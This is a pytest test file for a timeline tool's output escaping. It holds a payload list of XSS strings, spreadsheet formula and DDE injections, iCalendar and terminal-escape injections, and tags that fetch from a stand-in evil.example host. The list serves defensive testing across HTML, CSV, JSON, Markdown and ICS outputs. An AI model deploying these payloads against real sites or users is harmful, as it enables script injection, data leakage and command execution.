"""Hostile payloads in every text field, through every output: nothing runs, nothing is fetched, nothing splits.

One log, tests/fixtures/hostile-matrix.yaml, is generated from `PAYLOADS` below (regenerate it with
TIMELINE_UPDATE_FIXTURE=1 after changing them): one event and one source per payload, with the payload in every
text field a log has (log title and description; source title, publisher and notes; event title, quote, tags,
actors, notes; each claim's quote and notes; period titles), URLs that pass the loader's check but carry hostile
characters, and ids that are valid but look like numbers or keywords to a careless reader.

Every output is built from it with the real commands (`timeline build`, `timeline export`, `timeline query`) and
checked the way its reader would take it:

* HTML (the page, report.html) and the TimelineJS slides: loaded in headless Chromium with the network refused; a
  payload that ran would set `window.__pwned` or open a dialog, one that fetched would show in the refused
  requests; the DOM holds no `on*` attribute and no link or source that is not http(s)/mailto/file; payloads show
  as their own text.
* CSV (report.csv, export csv, query csv), TSV (edtf): parsed back with the csv module: one row per event, every
  row as wide as the header, and no cell a spreadsheet would run as a formula.
* JSON (events.json, export json/jsonl/timelinejs/vis, query json/jsonl) and Parquet: parsed back, one object per
  event, each text field exactly the log's text; text meant for HTML (TimelineJS, vis) holds only our own tags.
* Markdown (report.md, query md): every table row on one line with the header's number of unescaped pipes, no raw
  HTML tag, every link http(s)/mailto.
* iCalendar: parsed by icalendar: one VEVENT per event, none injected, every SUMMARY the title on one line.
* The terminal table (query table): no escape or control character reaches the terminal.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

import timeline
from timeline.exchange.imports import _NEUTRALISED
from timeline.model import Log
from timeline.safety import strip_invisible

HERE = Path(__file__).resolve().parent
FIXTURE = HERE / "fixtures" / "hostile-matrix.yaml"
TIMELINEJS = HERE / "js" / "node_modules" / "@knight-lab" / "timelinejs" / "dist"

# (name, payload): each would run, fetch, break a row or a table, start a formula, or mislead a reader.
PAYLOADS: list[tuple[str, str]] = [
    ("script", '<script>window.__pwned="script"</script>'),
    ("script-close", '</script><script>window.__pwned="close"</script><!--'),
    ("img-onerror", "<img src=x onerror=\"window.__pwned='img'\">"),
    ("attr-break-double", '"><svg onload=window.__pwned="attr2">'),
    ("attr-break-single", "'><svg/onload=alert('attr1')>"),
    ("event-handler-text", "x onmouseover=window.__pwned='hover' autofocus onfocus=alert(1)"),
    ("javascript-url", "javascript:window.__pwned='js-url'"),
    ("javascript-url-spaced", " JaVaScRiPt:alert('spaced')"),
    ("data-url", "data:text/html,<script>window.__pwned='data'</script>"),
    ("markdown-js-link", "[click me](javascript:window.__pwned='md')"),
    ("markdown-image", "![x](https://evil.example/md.png)"),
    ("markdown-html", "<details open ontoggle=window.__pwned='details'>"),
    ("iframe", '<iframe src="https://evil.example/frame"></iframe>'),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    ("css-url", "<div style=\"background:url('https://evil.example/bg.png')\">bg</div>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-prefetch", '<link rel="prefetch" href="https://evil.example/prefetch">'),
    ("template", "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=2} %{customdata} <extra>"),
    ("plotly-link", "<a href=\"javascript:window.__pwned='plotly'\">plotly link</a><br>"),
    ("entities", "&lt;script&gt;window.__pwned='entity'&lt;/script&gt; &amp; &#60;b&#62;"),
    ("cdata-comment", "]]><!-- --><![CDATA[x]]>"),
    ("formula-equals", '=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("formula-plus", "+1+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(A1:A9)"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("pipes", "a | b || c \\| d |"),
    ("newlines", "line one\nline two\r\nline three\rline four"),
    ("unicode-line-breaks", "ls\u2028ps\u2029nel\x85vt\x0bff\x0c."),
    ("bidi", "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fRLM \u061c"),
    ("csv-quotes", '"quoted", with, commas; and ""more"""'),
    ("ics-injection", "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:injected\nSUMMARY:injected\nDTSTART:20240101"),
    ("ics-specials", "semi;colon,comma\\backslash:colon\\nnot-a-newline"),
    ("terminal", "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x1b[0m"),
    ("json-breaker", '"}, {"id": "injected", "title": "x'),
    ("null-and-bell", "nul\x00bell\x07"),
    ("long", "long " * 1000),
]

#: URLs the loader accepts (http, https, mailto, no spaces or quotes) that still carry hostile characters.
URLS = [
    "https://example.com/a|b(c)[d]&q=1*2_3#x",
    "https://example.com/=1+1",
    "https://example.com/?q=javascript:window.__pwned=1",
    "https://example.com/%22%3E%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "mailto:someone@example.com?subject=%0d%0aBcc:evil@example.com",
    "https://example.com/**bold**_em_",
]

#: Valid ids that a careless reader would take for a number, a keyword or a formula's cousin.
ODD_IDS = ["NaN", "1e5", "0x1F", "true", "null", "Infinity", "0", "1.5", "a..b", "E-1"]

ODD_SOURCE_IDS = ["null", "1e5", "NaN"]


def _q(text: str) -> str:
    """Give a YAML double-quoted scalar (a JSON string is one)."""
    return json.dumps(text)


def fixture_text() -> str:
    """Give the YAML of the hostile-matrix log."""
    every = " ".join(p for _, p in PAYLOADS[:20])
    out = ["# Generated by tests/test_hostile_matrix.py from its PAYLOADS (TIMELINE_UPDATE_FIXTURE=1 rewrites it).",
           "# Every text field holds a payload; see that file's docstring for what each output is checked for.",
           f"title: {_q('Hostile matrix ' + PAYLOADS[0][1] + ' ' + PAYLOADS[2][1] + ' ' + PAYLOADS[22][1])}",
           f"description: {_q(every)}", "", "sources:"]
    source_ids = []
    for n, (name, payload) in enumerate(PAYLOADS):
        sid = ODD_SOURCE_IDS[n] if n < len(ODD_SOURCE_IDS) else f"src-{name}"
        source_ids.append(sid)
        out += [f"  {sid}:", f"    title: {_q(payload)}", f"    publisher: {_q(payload)}",
                f"    url: {_q(URLS[n % len(URLS)])}", '    published: "2024-05-31"', f"    notes: {_q(payload)}"]
    out += ["", "periods:"]
    for n in range(3):
        out += [f"  - title: {_q(PAYLOADS[n * 7][1])}", f'    when: "2024-0{n + 1}-01"',
                f'    until: "2024-0{n + 1}-20"']
    out += ["", "events:"]
    for n, (name, payload) in enumerate(PAYLOADS):
        event_id = ODD_IDS[n] if n < len(ODD_IDS) else f"p{n:02d}-{name}"
        day = f"2024-05-{n % 28 + 1:02d}"
        out += [f"  - id: {_q(event_id)}", f"    title: {_q(payload)}"]
        if n % 3 == 0:  # some dated by a phrase against their source, some spans, some exact days
            out += ["    when: last Tuesday"]
        else:
            out += [f'    when: "{day}"']
        spans = n % 4 == 1 and n % 3 != 0
        if spans:
            out += [f'    until: "2024-05-{n % 28 + 2:02d}"']
        out += [f"    source: {_q(source_ids[n])}", f"    quote: {_q(payload)}",
                f"    tags: [{_q(_label(payload))}, {_q('t-' + name)}]",
                f"    actors: [{_q(_label(payload))}, {_q('a-' + name)}]",
                f"    notes: {_q(payload)}"]
        if n % 2:
            out += [f"    url: {_q(URLS[(n + 1) % len(URLS)])}"]
        out += ["    claims:", f"      - when: {_q('2024-05-' + f'{n % 28 + 1:02d}' if n % 3 else 'last Tuesday')}",
                f"        source: {_q(source_ids[n])}", f"        quote: {_q(payload)}",
                f"        notes: {_q(payload)}"]
        if spans:
            out += [f'        until: "2024-05-{n % 28 + 2:02d}"']
    return "\n".join(out) + "\n"


def _label(payload: str) -> str:
    """Give a payload as a tag or actor can hold it: without the invisible characters a label may not hold."""
    from timeline.safety import strip_hidden

    return strip_hidden(payload).strip() or "hidden"


def test_the_fixture_is_generated_from_the_payloads() -> None:
    text = fixture_text()
    if os.environ.get("TIMELINE_UPDATE_FIXTURE"):
        FIXTURE.write_text(text, encoding="utf-8")
    assert FIXTURE.read_text("utf-8") == text, "run with TIMELINE_UPDATE_FIXTURE=1 to regenerate it"


@pytest.fixture(scope="module")
def log() -> Log:
    return timeline.load(FIXTURE)


def test_every_text_field_of_the_log_holds_a_payload(log: Log) -> None:
    payloads = {p for _, p in PAYLOADS}
    labels = {_label(p) for p in payloads}
    assert len(log.records) == len(PAYLOADS) and len(log.sources) == len(PAYLOADS)
    assert any(p in log.title for p in payloads) and any(p in log.description for p in payloads)
    for event in log.events:
        assert event.title in payloads and event.notes in payloads
        assert event.tags[0] in labels and event.actors[0] in labels
        for claim in event.claims:
            assert claim.quote in payloads, (event.id, claim)
        assert len(event.claims) == 2
    for source in log.sources.values():
        assert {source.title, source.publisher} <= payloads
    assert all(p.title in payloads for p in log.periods) and len(log.periods) == 3


# --- building every output with the real commands -----------------------------------------------------------------

EXPORTS = ["timelinejs", "ics", "edtf", "csv", "json", "jsonl", "parquet", "vis"]
QUERIES = ["csv", "json", "jsonl", "md", "table"]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Give every output file by name: the build's files, `export-FORMAT`, `query-FORMAT`."""
    from typer.testing import CliRunner

    from timeline.cli import app

    folder = tmp_path_factory.mktemp("hostile-outputs")
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(app, list(args), catch_exceptions=False,
                               env={"TIMELINE_CACHE_DIR": str(folder / "cache")})
        assert result.exit_code == 0, result.output
        return result.stdout_bytes.decode("utf-8")  # `.stdout` turns CR LF into LF, inside CSV cells too

    run("build", "-f", str(FIXTURE), "-o", str(folder / "build"))
    found = {p.name: p for p in (folder / "build").iterdir() if p.is_file()}
    for fmt in EXPORTS:
        path = folder / f"export-{fmt}"
        run("export", "--format", fmt, "-f", str(FIXTURE), "-o", str(path))
        found[f"export-{fmt}"] = path
    for fmt in QUERIES:
        path = folder / f"query-{fmt}"
        path.write_text(run("query", "-f", str(FIXTURE), "--format", fmt), encoding="utf-8")
        found[f"query-{fmt}"] = path
    return found


def test_every_output_was_written(outputs: dict[str, Path]) -> None:
    expected = {"timeline.html", "report.html", "report.md", "report.csv", "events.json"}
    assert expected <= set(outputs)
    assert {f"export-{f}" for f in EXPORTS} | {f"query-{f}" for f in QUERIES} <= set(outputs)


# --- data: parsed back, nothing split or merged ---------------------------------------------------------------

#: A cell that a spreadsheet would run. A leading '-' is allowed only for a date or number we wrote (BCE years).
FORMULA_START = re.compile(r"[=+@\t\r]|-(?!\d{4}(?:-\d\d){0,2}(?:[/.]|$))")


def _csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


@pytest.mark.parametrize("name", ["report.csv", "export-csv", "query-csv"])
def test_csv_has_one_row_per_event_as_wide_as_its_header_and_no_formula(name: str, outputs: dict[str, Path],
                                                                       log: Log) -> None:
    header, *rows = _csv_rows(outputs[name])
    assert len(rows) == len(log.records), "a payload split or merged rows"
    assert all(len(row) == len(header) for row in rows), "a payload split or merged cells"
    ids = header.index("id")
    assert sorted(row[ids] for row in rows) == sorted(r.id for r in log.records)
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            assert not FORMULA_START.match(cell), f"{name}: {column} of {row[ids]} starts a formula: {cell[:40]!r}"
            # nor after a `;` or tab, where German, French, Italian or Spanish spreadsheets start a new cell
            for piece in re.split("[;\t\r\n]", cell)[1:]:
                assert not re.match("[=+\\-@]", piece), f"{name}: {column} of {row[ids]}: {cell[:60]!r}"
    titles = {row[ids]: row[header.index("title")] for row in rows}
    for record in log.records:  # the text itself survives, behind the neutralising quotes where they were needed
        assert _NEUTRALISED.sub("", titles[record.id]) == record.event.title, record.id


def test_edtf_tsv_has_one_line_per_event_with_two_fields(outputs: dict[str, Path], log: Log) -> None:
    rows = _csv_rows(outputs["export-edtf"], delimiter="\t")
    assert len(rows) == len(log.records)
    assert all(len(row) == 2 for row in rows)
    assert sorted(row[0] for row in rows) == sorted(r.id for r in log.records)


def _rows_by_id(items: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    by_id = {item["id"]: item for item in items}
    assert len(by_id) == len(items), "two objects share an id"
    return by_id


@pytest.mark.parametrize("name", ["events.json", "export-json", "export-jsonl", "query-json", "query-jsonl"])
def test_json_gives_back_every_field_exactly(name: str, outputs: dict[str, Path], log: Log) -> None:
    text = outputs[name].read_text("utf-8")
    if name.endswith("jsonl"):
        lines = text.split("\n")  # JSON Lines ends lines with LF only (str.splitlines would also cut at U+2028)
        assert lines[-1] == "" and len(lines) - 1 == len(log.records), "a payload split a JSON line"
        items = [json.loads(line) for line in lines[:-1]]
    else:
        items = json.loads(text)
    assert len(items) == len(log.records)
    by_id = _rows_by_id(items)
    assert set(by_id) == {r.id for r in log.records}
    for record in log.records:
        row, event, claim = by_id[record.id], record.event, record.dates[0].claim
        assert isinstance(row["id"], str)
        assert row["title"] == event.title
        assert row["quote"] == claim.quote
        assert row["notes"] == event.notes
        assert row["tags"] == list(event.tags) and row["actors"] == list(event.actors)
        source = log.sources[claim.source] if claim.source else None
        if source is not None and "source_title" in row:
            assert row["source_title"] == source.title and row["publisher"] == source.publisher


def test_parquet_gives_back_every_field_exactly(outputs: dict[str, Path], log: Log) -> None:
    import pyarrow.parquet  # type: ignore[import-untyped,unused-ignore]

    table = pyarrow.parquet.read_table(outputs["export-parquet"])
    assert table.num_rows == len(log.records)
    rows = _rows_by_id(table.to_pylist())
    for record in log.records:
        assert rows[record.id]["title"] == record.event.title
        assert list(rows[record.id]["tags"]) == list(record.event.tags)


class _Tags(HTMLParser):
    """Collect every tag and attribute of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _check_fragment(fragment: str, allowed: set[str], where: str) -> None:
    """An HTML fragment holds only the tags we write, no handler, and only http(s)/mailto links."""
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in allowed, f"{where}: a <{tag}> tag came through: {fragment[:120]!r}"
        for attr, value in attrs:
            assert not attr.startswith("on"), f"{where}: a {attr} handler came through"
            if attr in ("href", "src"):
                assert (value or "").startswith(("https://", "http://", "mailto:")), f"{where}: {attr}={value!r}"


def _strings(value: Any, path: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(item, f"{path}.{key}")
    elif isinstance(value, list):
        for n, item in enumerate(value):
            yield from _strings(item, f"{path}[{n}]")


def test_timelinejs_json_has_one_event_per_record_and_only_our_markup(outputs: dict[str, Path], log: Log) -> None:
    data = json.loads(outputs["export-timelinejs"].read_text("utf-8"))
    events = data["events"]
    assert sorted(e["unique_id"] for e in events) == sorted(r.id for r in log.records)
    shown = {k: v for k, v in data.items() if k != "events"}
    shown["events"] = [{k: v for k, v in e.items() if k != "timeline"} for e in events]  # `timeline`: data only
    for where, text in _strings(shown):
        _check_fragment(text, {"blockquote", "p", "a"}, f"timelinejs{where}")
        assert not any(c in text for c in "\n\r\u2028\u2029\x85") or where.endswith(".text.text")
    for event in events:  # the plain data block gives the text back exactly
        record = next(r for r in log.records if r.id == event["unique_id"])
        assert event["timeline"]["notes"] == record.event.notes
        assert event["timeline"]["tags"] == list(record.event.tags)


# Found by this matrix: `group` was escaped once, but TimelineJS 3 passes `group` and `display_date` through
# stripMarkup (DOMParser ... textContent, which decodes &lt; back to <) and TimeGroup then sets the label with
# innerHTML, so a first tag <img src=x onerror=...> ran script and <meta http-equiv=refresh> navigated the page.
def test_timelinejs_fields_that_it_decodes_hold_no_markup_once_decoded(outputs: dict[str, Path],
                                                                       log: Log) -> None:
    data = json.loads(outputs["export-timelinejs"].read_text("utf-8"))
    for event in data["events"]:
        for key in ("group", "display_date"):  # TimelineJS's STRIP_MARKUP_FIELDS, shown with innerHTML
            if key in event:
                _check_fragment(html.unescape(event[key]), set(), f"timelinejs {event['unique_id']}.{key}")


def test_vis_json_has_one_item_per_record_and_only_text(outputs: dict[str, Path], log: Log) -> None:
    data = json.loads(outputs["export-vis"].read_text("utf-8"))
    items = [i for i in data["items"] if i.get("type") != "background"]
    assert sorted(i["id"] for i in items) == sorted(r.id for r in log.records)
    for item in data["items"] + data["groups"]:
        for key in ("content", "title"):
            if key in item:
                _check_fragment(item[key], set(), f"vis {item['id']}.{key}")


def test_icalendar_has_one_vevent_per_event_and_none_injected(outputs: dict[str, Path], log: Log) -> None:
    import icalendar

    raw = outputs["export-ics"].read_bytes()
    calendar = icalendar.Calendar.from_ical(raw)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == len(log.records)
    unfolded = raw.replace(b"\r\n ", b"").replace(b"\r\n\t", b"").split(b"\r\n")
    assert unfolded.count(b"BEGIN:VEVENT") == len(log.records), "a payload started a VEVENT of its own"
    assert unfolded.count(b"END:VEVENT") == len(log.records)
    uids = sorted(str(e["UID"]) for e in events)
    assert uids == sorted(f"{r.id}@timeline" for r in log.records)
    by_uid = {str(e["UID"]): e for e in events}
    for record in log.records:
        summary = str(by_uid[f"{record.id}@timeline"]["SUMMARY"])
        assert summary == " ".join(strip_invisible(record.event.title).split())
        # the quote comes back whole from DESCRIPTION: folding split no character, escaping lost none
        description = str(by_uid[f"{record.id}@timeline"]["DESCRIPTION"])
        quote = strip_invisible(record.dates[0].claim.quote)
        assert any(form in description for form in (quote, " ".join(quote.split()),
                                                    quote.replace("\r\n", "\n").replace("\r", "\n"))), record.id
    for line in raw.split(b"\r\n"):  # folded lines of at most 75 octets, no bare line breaks
        assert b"\n" not in line and b"\r" not in line
        assert len(line) <= 75


MD_HEADER = re.compile(r"^\|.*\|$")
UNESCAPED_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")


@pytest.mark.parametrize("name", ["report.md", "query-md"])
def test_markdown_rows_are_one_line_each_with_the_right_pipes_and_no_html(name: str, outputs: dict[str, Path],
                                                                         log: Log) -> None:
    text = outputs[name].read_text("utf-8")
    lines = text.split("\n")
    table = [line for line in lines if line.startswith("|")]
    header, rule, *rows = table
    assert set(rule) <= set("|-: ")
    pipes = len(UNESCAPED_PIPE.findall(header))
    assert len(rows) == len(log.records), "a payload split or merged table rows"
    for row in rows:
        assert len(UNESCAPED_PIPE.findall(row)) == pipes, f"a payload changed the columns: {row[:120]!r}"
    for line in lines:
        targets = re.findall(r"(?<!\\)\]\(<?([^)>]*)>?\)", line)
        for target in targets:
            assert target.startswith(("https://", "http://", "mailto:")), f"a link to {target!r}"
        outside_links = re.sub(r"(?<!\\)\]\(<[^)>]*>\)", "](...)", line)  # CommonMark's <...> link target
        assert not re.search(r"<(?:[a-zA-Z!/?])", outside_links), f"raw HTML in Markdown: {line[:120]!r}"
        assert not any(c in line for c in "\r\u2028\u2029\x85\x0b\x0c\x1b\x00\u202e\u2066")


def test_the_terminal_table_carries_no_control_characters(outputs: dict[str, Path], log: Log) -> None:
    text = outputs["query-table"].read_text("utf-8")
    assert len(text.splitlines()) == len(log.records) + 1
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", text)


# --- HTML: loaded in Chromium, offline ----------------------------------------------------------------------------

#: What a page's DOM says about payloads: anything that ran, any handler attribute, any link that is not ours.
DOM_STATE = """() => {
  const handlers = [], links = [], tags = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith('on')) handlers.push(el.tagName + ' ' + attr.name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(attr.name.toLowerCase())) {
        const v = attr.value.trim().toLowerCase();
        if (!(v.startsWith('https://') || v.startsWith('http://') || v.startsWith('mailto:') || v.startsWith('#')
              || v.startsWith('file:') || v === '' || v.startsWith('data:image/svg+xml')
              // plotly.js's own picture of a heatmap's cells (the overview strip): numbers, never log text
              || (el.tagName.toLowerCase() === 'image' && el.closest('g.hm') && v.startsWith('data:image/png;')))) {
          links.push(el.tagName + ' ' + attr.name + '=' + attr.value.slice(0, 60));
        }
      }
    }
    // the page's own <details> (the phone's chronology, the folding chips) carry only a class and 'open'
    const ours = el.tagName === 'DETAILS' && (el.closest('ol.chrono') || el.classList.contains('filters'))
      && [...el.attributes].every(a => a.name === 'class' || a.name === 'open');
    if (['IFRAME', 'BASE', 'OBJECT', 'EMBED', 'DETAILS', 'IMG', 'FORM'].includes(el.tagName) && !ours) {
      tags.push(el.tagName);
    }
    // the page's own <meta http-equiv="Content-Security-Policy"> is ours; a refresh would be a payload's
    if (el.tagName === 'META' && ['refresh', 'set-cookie'].includes((el.httpEquiv || '').toLowerCase())) {
      tags.push('META ' + el.httpEquiv);
    }
  }
  return {pwned: window.__pwned === undefined ? null : String(window.__pwned), handlers, links, tags,
          text: document.body.innerText};
}"""


def _open(page: Any, path: Path, dialogs: list[str]) -> dict[str, Any]:
    def dismiss(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)  # timers and late handlers a payload might have set
    state: dict[str, Any] = page.evaluate(DOM_STATE)
    return state


def _shows_as_text(text: str) -> None:
    """The markup payloads are on the page as the characters they are, not dropped and not run."""
    for name in ("script", "img-onerror", "iframe"):
        payload = dict(PAYLOADS)[name]
        assert payload in text, f"payload {name} is not shown as text"


def _no_effect(page: Any, state: dict[str, Any], dialogs: list[str]) -> None:
    assert state["pwned"] is None, f"a payload ran: window.__pwned = {state['pwned']}"
    assert dialogs == [], f"a payload opened a dialog: {dialogs}"
    assert page.requests_seen == [], f"the page asked the network for {page.requests_seen}"
    assert state["handlers"] == [], state["handlers"]
    assert state["links"] == [], state["links"]


@pytest.mark.parametrize("name", ["timeline.html", "report.html"])
def test_html_runs_no_payload_and_fetches_nothing(name: str, outputs: dict[str, Path], offline_page: Any) -> None:
    dialogs: list[str] = []
    state = _open(offline_page, outputs[name], dialogs)
    _no_effect(offline_page, state, dialogs)
    assert state["tags"] == [], f"payload elements in the DOM: {state['tags']}"
    _shows_as_text(state["text"])
    assert offline_page.console_errors == []


def test_hovering_and_focusing_every_mark_of_the_page_runs_nothing(outputs: dict[str, Path],
                                                                   offline_page: Any) -> None:
    dialogs: list[str] = []
    _open(offline_page, outputs["timeline.html"], dialogs)
    offline_page.wait_for_selector("#timeline-chart[data-ready]", timeout=30_000)
    points = offline_page.locator(".subplot.xy .scatterlayer .point, .subplot.xy .barlayer .point")
    assert points.count() >= len(PAYLOADS) // 2
    for n in range(points.count()):
        try:
            points.nth(n).hover(timeout=2_000, force=True)
        except Exception:  # a mark under another one cannot take the mouse; the others still do
            continue
    for _ in range(60):  # tab through every focusable element: autofocus/onfocus payloads would fire here
        offline_page.keyboard.press("Tab")
    state = offline_page.evaluate(DOM_STATE)
    _no_effect(offline_page, state, dialogs)
    hover = offline_page.locator(".hoverlayer").inner_html()
    assert "<script" not in hover.lower() and "onerror" not in hover.lower().replace("onerror=&quot;", "")


TL_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>hostile timelinejs</title>
<link rel="stylesheet" href="{css}"><script src="{js}"></script></head>
<body><div id="timeline-embed" style="width: 1000px; height: 600px"></div></body></html>
"""


def test_timelinejs_renders_every_slide_without_running_a_payload(outputs: dict[str, Path], offline_page: Any,
                                                                 tmp_path: Path, log: Log) -> None:
    if not (TIMELINEJS / "js" / "timeline.js").exists():
        pytest.skip(f"TimelineJS is not installed at {TIMELINEJS}: run `npm ci --prefix tests/js`")
    page_file = tmp_path / "index.html"
    page_file.write_text(TL_PAGE.format(css=(TIMELINEJS / "css" / "timeline.css").as_uri(),
                                        js=(TIMELINEJS / "js" / "timeline.js").as_uri()), encoding="utf-8")
    dialogs: list[str] = []
    _open(offline_page, page_file, dialogs)
    data = json.loads(outputs["export-timelinejs"].read_text("utf-8"))
    options = {"script_path": (TIMELINEJS / "js").as_uri() + "/", "font": None}
    offline_page.evaluate("""([data, options]) => new Promise((resolve, reject) => {
        window.__timeline = new TL.Timeline('timeline-embed', data, options);
        window.__timeline.on('loaded', () => resolve(true));
        setTimeout(() => reject(new Error('TimelineJS did not finish loading')), 15000);
    })""", [data, options])
    for _ in range(len(log.records)):  # show every slide: each one's text is put in the DOM when shown
        offline_page.evaluate("() => window.__timeline.goToNext()")
        offline_page.wait_for_timeout(30)
    offline_page.wait_for_timeout(500)
    state = offline_page.evaluate(DOM_STATE)
    _no_effect(offline_page, state, dialogs)
    slides = offline_page.evaluate("() => document.querySelectorAll('.tl-slide:not(.tl-slide-titleslide)').length")
    assert slides == len(log.records)
    _shows_as_text(state["text"])


def test_the_browser_checks_do_catch_a_payload_that_runs(offline_page: Any, tmp_path: Path) -> None:
    """A control: an unescaped page is caught by every check above, so their passing means something."""
    page_file = tmp_path / "unsafe.html"
    page_file.write_text("<!doctype html><body><p>x</p>" + dict(PAYLOADS)["img-onerror"]
                         + dict(PAYLOADS)["iframe"] + "<a href='javascript:void(0)'>j</a></body>", encoding="utf-8")
    dialogs: list[str] = []
    state = _open(offline_page, page_file, dialogs)
    assert state["pwned"] == "img"
    assert "https://evil.example/frame" in offline_page.requests_seen
    assert any("onerror" in h for h in state["handlers"])
    assert any("javascript:" in link for link in state["links"])
    assert {"IMG", "IFRAME"} <= set(state["tags"])


# --- the terminal: what the commands print -------------------------------------------------------------------------

#: Characters that a terminal acts on or that reorder what it shows: C0/C1 controls (but line feed), bidi controls.
TERMINAL_UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")

# Found by this matrix and fixed in 3fdf83d: `explain` and the error messages printed the log's text as it was, so
# a title or key holding '\x1b]0;pwned\x07\x1b[2J' retitled and cleared the user's terminal.


def test_explain_prints_no_terminal_control_characters(log: Log, cli: Any) -> None:
    for record in log.records:
        result = cli("explain", record.id, "-f", str(FIXTURE))
        assert result.code == 0, result.output
        found = TERMINAL_UNSAFE.search(result.stdout)
        assert not found, f"explain {record.id}: U+{ord(found.group()):04X} reaches the terminal"


def test_error_messages_print_no_terminal_control_characters(cli: Any, write_log: Any) -> None:
    osc = "\\e]0;pwned\\a\\e[2J\\u202e"
    path = write_log(f'title: t\nsources:\n  s:\n    url: "javascript:{osc}"\n    "k{osc}": 1\n'
                     f'    published: "2024-05-17"\nevents:\n  - id: a\n    title: "T"\n    when: "Tues{osc}day"\n'
                     f'    source: "nope{osc}"\n    tense: "pa{osc}st"\n    "ev{osc}key": 1\n')
    result = cli("validate", "-f", str(path))
    assert result.code == 1 and result.stderr.count("\n") >= 5, result.stderr
    found = TERMINAL_UNSAFE.search(result.stderr)
    assert not found, f"U+{ord(found.group()):04X} reaches the terminal: {result.stderr!r}"


@pytest.mark.parametrize("lanes", ["actor", "source", "event"])
def test_every_lane_layout_of_the_page_runs_nothing(lanes: str, cli: Any, tmp_path: Path,
                                                    offline_page: Any) -> None:
    """Lane names come from actors, source titles or event titles: payloads become axis labels and legends."""
    result = cli("build", "-f", str(FIXTURE), "-o", str(tmp_path), "--lanes", lanes)
    assert result.code == 0, result.output
    dialogs: list[str] = []
    _open(offline_page, tmp_path / "timeline.html", dialogs)
    offline_page.wait_for_selector("#timeline-chart[data-ready]", timeout=30_000)
    points = offline_page.locator(".subplot.xy .scatterlayer .point")
    for n in range(min(points.count(), 40)):
        try:
            points.nth(n).hover(timeout=2_000, force=True)
        except Exception:  # a mark under another one cannot take the mouse; the others still do
            continue
    state = offline_page.evaluate(DOM_STATE)
    _no_effect(offline_page, state, dialogs)
    assert state["tags"] == [], f"payload elements in the DOM: {state['tags']}"
    assert offline_page.console_errors == []
